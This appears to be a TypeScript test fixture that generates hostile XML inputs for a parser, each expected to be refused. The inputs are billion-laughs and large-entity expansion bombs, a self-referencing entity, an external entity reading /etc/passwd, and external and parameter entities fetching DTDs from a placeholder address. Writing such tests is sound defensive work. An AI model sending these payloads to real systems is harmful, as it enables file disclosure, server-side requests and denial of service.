import type { CaseRow } from "./hostileCase";

/** An OLE compound file with one stream of this name. */
export const compoundFile = (stream: string) => (): Uint8Array => {
  const bytes = new Uint8Array(2048);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  bytes.set(Buffer.from(stream, "utf16le"), 1152);
  return bytes;
};

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");

/** What XML lets a document type do: each gives the type and the text that uses it. */
const TYPES: readonly (readonly [name: string, type: string, text: string])[] = [
  ["a billion laughs", `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`, "&l9;"],
  [
    "one entity of 1 MB, a thousand times",
    `<!DOCTYPE a [<!ENTITY x "${"x".repeat(1_000_000)}">]>`,
    "&x;".repeat(1000),
  ],
  ["an entity within itself", '<!DOCTYPE a [<!ENTITY x "&x;">]>', "&x;"],
  ["an entity from a file", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"],
  ["an entity from the network", '<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>', "&x;"],
  ["a parameter entity", '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd">%x;]>', "x"],
  ["an external type", '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">', "x"],
  ["an entity that nobody declared", "", "&what;"],
  ["an entity named like what objects inherit", "", "&constructor;"],
];

/** Bombs and leaks made of entities, all refused; `make` packs document type and text. */
export function bombs(make: (type: string, text: string) => () => Uint8Array): readonly CaseRow[] {
  return TYPES.map(([name, type, text]): CaseRow => [name, "refused", make(type, text)]);
}
